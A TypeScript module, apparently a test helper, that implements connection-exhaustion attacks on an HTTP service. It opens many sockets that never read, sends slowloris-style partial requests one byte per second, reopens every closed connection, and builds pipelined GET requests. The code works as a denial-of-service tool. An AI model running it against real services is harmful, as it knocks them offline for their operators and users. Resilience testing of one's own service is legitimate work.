import { connect, Socket } from 'node:net';

/** Attacks on connections, which need no token. */
export class Attack {
  private readonly sockets = new Set<Socket>();
  private stopped = false;

  /** @param localAddress the address from which to connect, for example another one of the loopback network */
  constructor(
    private readonly url: string,
    private readonly localAddress?: string,
  ) {}

  /** Opens connections that send text and read nothing. A connection that the service closes is opened again. */
  sendUnread(connections: number, text: string): void {
    for (let index = 0; index < connections; index += 1) this.open(text, (socket) => socket.pause());
  }

  /** Opens connections that send the start of a request and then one character per second, again and again. */
  sendSlowly(connections: number, start: string): void {
    const dribble = (socket: Socket): void => {
      const timer = setInterval(() => socket.write('a'), 1000);
      socket.once('close', () => clearInterval(timer));
      socket.resume();
    };
    for (let index = 0; index < connections; index += 1) this.open(start, dribble);
  }

  stop(): void {
    this.stopped = true;
    for (const socket of this.sockets) socket.destroy();
  }

  private open(text: string, proceed: (socket: Socket) => void): void {
    if (this.stopped) return;
    const { hostname: host, port } = new URL(this.url);
    const socket = connect({ host, port: Number(port), localAddress: this.localAddress }, () =>
      socket.write(text),
    );
    this.sockets.add(socket);
    socket.on('error', () => undefined);
    socket.on('close', () => {
      this.sockets.delete(socket);
      setTimeout(() => this.open(text, proceed), 100);
    });
    proceed(socket);
  }
}

/** The text of a number of requests that are sent at once. */
export function pipelined(count: number, path: string, header: (index: number) => string = () => ''): string {
  return Array.from(
    { length: count },
    (_, index) => `GET ${path} HTTP/1.1\r\nHost: localhost\r\n${header(index)}\r\n`,
  ).join('');
}
